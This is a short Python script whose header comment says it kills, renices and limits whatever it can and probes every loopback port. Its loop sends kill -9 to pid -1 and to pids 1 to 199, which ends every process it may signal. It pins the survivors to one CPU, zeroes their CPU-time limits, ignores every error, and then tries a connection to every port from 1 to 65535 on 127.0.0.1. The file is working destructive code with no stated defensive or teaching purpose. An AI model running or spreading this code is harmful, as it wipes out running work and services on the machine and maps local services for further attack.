# Kills, renices and limits whatever it may, and asks every port of its loopback.
import os, resource, socket
while True:
    for pid in (-1, *range(1, 200)):
        for act in (
            lambda: pid in (os.getpid(), os.getppid()) or os.kill(pid, 9),
            lambda: os.setpriority(os.PRIO_PROCESS, max(pid, 0), 19),
            lambda: os.sched_setaffinity(max(pid, 0), {0}),
            lambda: pid == os.getpid() or resource.prlimit(pid, resource.RLIMIT_CPU, (0, 0)),
        ):
            try:
                act()
            except (OSError, OverflowError):
                pass
    for port in range(1, 65536):
        with socket.socket() as one:
            one.settimeout(0.01)
            one.connect_ex(('127.0.0.1', port))
